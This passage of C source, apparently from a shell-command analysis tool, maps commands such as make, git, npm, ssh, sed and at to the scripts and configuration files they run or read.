					add_run(out, n, max, v, vf,
					        LK_MATCH_BASE, LK_RUN_INTERP);
				if (lk_has_letter(it->stop, *p) && *p == 'm' &&
				    v) {
					/* python -m MOD runs MOD.py */
					add_run(out, n, max, v, vf,
					        LK_MATCH_MODULE, LK_RUN_INTERP);
					return;
				}
				if (is_code || lk_has_letter(it->stop, *p))
					code = true;
				break;
			}
			const char *after =
			    lk_cluster_value(it->cluster, *p, p + 1);
			if (after) {
				p = after -
				    1; /* perl -le: -l's digits, then e */
				continue;
			}
			if (lk_has_letter(it->rest, *p))
				break;
		}
	}
}

/* The files the options of c name under its row's lk_reads (at -f JOB,
   make -f MAKEFILE), added as runs of `how`; true when one was named. */
static bool named_files(const locus_shell_command *c, const lk_reads *r,
                        lk_run *out, size_t *n, size_t max, lk_runner how)
{
	bool named = false;
	for (size_t i = 1; r && i < c->argc; i++) {
		const char *f;
		uint32_t fl = c->argv_flags[i];
		unsigned bits = lk_reads_word(r, c->argv[i], &f);
		if ((bits & LK_RW_NEXT) && i + 1 < c->argc) {
			i++;
			if (bits & LK_RW_FILE) {
				f = c->argv[i];
				fl = c->argv_flags[i];
			}
		}
		if ((bits & LK_RW_FILE) && f) {
			named = true;
			add_run(out, n, max, f, fl, LK_MATCH_BASE, how);
		}
	}
	return named;
}

static void make_files(const locus_shell_command *c, const lk_program *p,
                       lk_run *out, size_t *n, size_t max)
{
	if (!named_files(c, p->reads, out, n, max, LK_RUN_MAKE)) {
		add_run(out, n, max, "Makefile", 0, LK_MATCH_BASE, LK_RUN_MAKE);
		add_run(out, n, max, "makefile", 0, LK_MATCH_BASE, LK_RUN_MAKE);
		add_run(out, n, max, "GNUmakefile", 0, LK_MATCH_BASE,
		        LK_RUN_MAKE);
	}
}

static const char *const git_config_vars[] = {
    "GIT_CONFIG_GLOBAL=",
    "GIT_CONFIG_SYSTEM=",
    "GIT_CONFIG=",
    NULL,
};

static void git_files(const locus_shell_command *c, lk_run *out, size_t *n,
                      size_t max)
{
	for (size_t i = 0; i < c->nassignments; i++)
		for (const char *const *v = git_config_vars; *v; v++)
			if (strncmp(c->assignments[i], *v, strlen(*v)) == 0)
				add_run(out, n, max,
				        c->assignments[i] + strlen(*v), 0,
				        LK_MATCH_BASE, LK_RUN_CONFIG);
	add_run(out, n, max, ".git/config", 0, LK_MATCH_SUFFIX, LK_RUN_CONFIG);
	add_run(out, n, max, ".gitconfig", 0, LK_MATCH_SUFFIX, LK_RUN_CONFIG);
	add_run(out, n, max, "git/config", 0, LK_MATCH_SUFFIX, LK_RUN_CONFIG);
	add_run(out, n, max, ".git/hooks/", 0, LK_MATCH_DIR, LK_RUN_CONFIG);
	add_run(out, n, max, ".gitattributes", 0, LK_MATCH_SUFFIX,
	        LK_RUN_CONFIG);
}

static bool is_git(const char *name)
{
	return lu_streq_null(name, "git") || strncmp(name, "git-", 4) == 0;
}

size_t lk_command_runs(const locus_shell_command *c, lk_run *out, size_t max)
{
	size_t n = 0;
	if (c->argc == 0)
		return 0;
	const char *a0 = c->argv[0];
	if (strchr(a0, '/'))
		add_run(out, &n, max, a0, c->argv_flags[0],
		        in_system_dir(a0) ? LK_MATCH_EXACT : LK_MATCH_BASE,
		        LK_RUN_EXEC);
	else
		add_run(out, &n, max, a0, c->argv_flags[0], LK_MATCH_PATH,
		        LK_RUN_EXEC);
	const lk_program *p = lk_program_find(c->name);
	uint32_t cls = p ? p->cls : 0;
	if (cls & LK_SHELL)
		shell_script(c, out, &n, max);
	if (cls & LK_SOURCE) {
		size_t i =
		    c->argc > 2 && lu_streq_null(c->argv[1], "--") ? 2 : 1;
		if (i < c->argc)
			add_run(out, &n, max, c->argv[i], c->argv_flags[i],
			        LK_MATCH_BASE, LK_RUN_SHELL);
	}
	if ((cls & (LK_INTERP | LK_AWK)) && p->interp)
		interp_script(c, p->interp, out, &n, max);
	if (p && lu_streq_null(p->name, "make"))
		make_files(c, p, out, &n, max);
	if (is_git(c->name))
		git_files(c, out, &n, max);
	if (p &&
	    (lu_streq_null(p->name, "npm") || lu_streq_null(p->name, "pnpm") ||
	     lu_streq_null(p->name, "yarn") || lu_streq_null(p->name, "bun") ||
	     lu_streq_null(p->name, "npx"))) {
		add_run(out, &n, max, "package.json", 0, LK_MATCH_BASE,
		        LK_RUN_CONFIG);
		add_run(out, &n, max, ".npmrc", 0, LK_MATCH_BASE,
		        LK_RUN_CONFIG);
	}
	/* configs and scripts read by name: ssh -F, sed -f */
	if (p &&
	    (lu_streq_null(p->name, "ssh") || lu_streq_null(p->name, "scp") ||
	     lu_streq_null(p->name, "sftp") || lu_streq_null(p->name, "sed"))) {
		char opt = lu_streq_null(p->name, "sed") ? 'f' : 'F';
		for (size_t i = 1; i < c->argc; i++) {
			const char *a = c->argv[i];
			if (a[0] != '-' || a[1] != opt)
				continue;
			if (a[2])
				add_run(out, &n, max, a + 2, c->argv_flags[i],
				        LK_MATCH_BASE, LK_RUN_CONFIG);
			else if (i + 1 < c->argc)
				add_run(out, &n, max, c->argv[i + 1],
				        c->argv_flags[i + 1], LK_MATCH_BASE,
				        LK_RUN_CONFIG);
		}
	}
	if (p &&
	    (lu_streq_null(p->name, "at") || lu_streq_null(p->name, "batch")))
		named_files(c, p->reads, out, &n, max, LK_RUN_SHELL);
	return n;
}
